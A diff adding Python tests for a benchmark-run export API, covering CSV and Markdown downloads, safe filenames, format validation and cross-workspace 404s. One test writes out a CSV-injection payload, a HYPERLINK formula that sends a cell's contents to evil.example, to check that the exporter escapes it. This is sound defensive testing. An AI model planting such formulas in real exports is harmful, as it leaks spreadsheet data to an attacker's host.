@@ -1,7 +1,10 @@
 from __future__ import annotations
 
 import copy
+import csv
+import io
 import json
+import uuid
 from datetime import datetime
 from pathlib import Path
 from typing import Any
@@ -142,6 +145,106 @@ def test_run_of_another_workspace_is_404(client: TestClient) -> None:
         assert r.json()["detail"] == "Benchmark run not found"
     listed = client.get(f"/api/v1/workspaces/{ws_b['id']}/benchmarks", headers=owner.headers)
     assert listed.json()["count"] == 0
+
+
+EXPORTS = {"csv": FIXTURE.with_suffix(".csv"), "md": FIXTURE.with_suffix(".md")}
+
+
+def test_export_is_the_text_vigil_bench_writes(client: TestClient) -> None:
+    """CSV and Markdown of a stored run, for readers: the files `vigil-bench export` wrote
+    for the same document (tests/fixtures/benchmark-run-small.{csv,md}), byte for byte."""
+    owner = signup(client)
+    ws = create_workspace(client, owner)
+    base = f"/api/v1/workspaces/{ws['id']}/benchmarks"
+    created = client.post(base, json=document(), headers=owner.headers).json()
+    viewer = add_member(client, owner, ws["id"], "viewer")
+    for fmt, media_type in (("csv", "text/csv"), ("md", "text/markdown")):
+        r = client.get(f"{base}/{created['id']}/export?format={fmt}", headers=viewer.headers)
+        assert r.status_code == 200, r.text
+        assert r.headers["content-type"] == f"{media_type}; charset=utf-8"
+        assert r.headers["content-disposition"] == f'attachment; filename="small-all-final.{fmt}"'
+        assert r.text == EXPORTS[fmt].read_text()
+
+
+def test_export_csv_writes_would_be_formulas_as_text(client: TestClient) -> None:
+    """A cell a spreadsheet would run (=, +, -, @, tab, CR first) gets a leading ', plain
+    numbers excepted (OWASP, CSV injection); the Markdown shows the text as it is."""
+    owner = signup(client)
+    ws = create_workspace(client, owner)
+    base = f"/api/v1/workspaces/{ws['id']}/benchmarks"
+    doc = document()
+    m = doc["scenarios"][0]["measurements"][0]
+    m.update(
+        metric='=HYPERLINK("https://evil.example/?"&A1,"x")',
+        unit="@u",
+        value=-2.5,
+        repetitions=[-1.5, 2.0],
+        labels={},
+    )
+    created = client.post(base, json=doc, headers=owner.headers).json()
+    r = client.get(f"{base}/{created['id']}/export?format=csv", headers=owner.headers)
+    assert r.status_code == 200, r.text
+    row = list(csv.reader(io.StringIO(r.text)))[1]
+    assert row[4:10] == [
+        '\'=HYPERLINK("https://evil.example/?"&A1,"x")',
+        "-2.5",
+        "'@u",
+        "",
+        "",
+        "'-1.5 2.0",
+    ]
+    md = client.get(f"{base}/{created['id']}/export?format=md", headers=owner.headers).text
+    assert '| =HYPERLINK("https://evil.example/?"&A1,"x") |' in md
+
+
+def test_export_names_the_file_after_the_run_in_safe_characters(client: TestClient) -> None:
+    owner = signup(client)
+    ws = create_workspace(client, owner)
+    base = f"/api/v1/workspaces/{ws['id']}/benchmarks"
+    doc = document(run_id='nightly "big"/2026 11')
+    created = client.post(base, json=doc, headers=owner.headers).json()
+    r = client.get(f"{base}/{created['id']}/export?format=md", headers=owner.headers)
+    assert r.status_code == 200, r.text
+    assert r.headers["content-disposition"] == 'attachment; filename="nightly__big__2026_11.md"'
+    assert r.text.startswith('# Benchmark run nightly "big"/2026 11\n')
+
+
+def test_export_refuses_an_unknown_or_missing_format(client: TestClient) -> None:
+    owner = signup(client)
+    ws = create_workspace(client, owner)
+    base = f"/api/v1/workspaces/{ws['id']}/benchmarks"
+    created = client.post(base, json=document(), headers=owner.headers).json()
+    r = client.get(f"{base}/{created['id']}/export?format=pdf", headers=owner.headers)
+    assert r.status_code == 422
+    assert r.json() == {
+        "detail": "query.format: Input should be 'csv' or 'md'",
+        "code": "validation_error",
+        "errors": [
+            {
+                "loc": ["query", "format"],
+                "msg": "Input should be 'csv' or 'md'",
+                "type": "literal_error",
+            }
+        ],
+    }
+    r = client.get(f"{base}/{created['id']}/export", headers=owner.headers)
+    assert r.status_code == 422
+    assert r.json()["detail"] == "query.format: Field required"
+
+
+def test_export_of_a_missing_or_another_workspaces_run_is_404(client: TestClient) -> None:
+    owner = signup(client)
+    ws_a, ws_b = create_workspace(client, owner), create_workspace(client, owner)
+    created = client.post(
+        f"/api/v1/workspaces/{ws_a['id']}/benchmarks", json=document(), headers=owner.headers
+    ).json()
+    for ws_id, run_id in ((ws_b["id"], created["id"]), (ws_a["id"], str(uuid.uuid4()))):
+        r = client.get(
+            f"/api/v1/workspaces/{ws_id}/benchmarks/{run_id}/export?format=csv",
+            headers=owner.headers,
+        )
+        assert r.status_code == 404
+        assert r.json() == {"detail": "Benchmark run not found", "code": "not_found"}
 
 
 def _upload_error(client: TestClient, body: Any) -> dict[str, Any]:
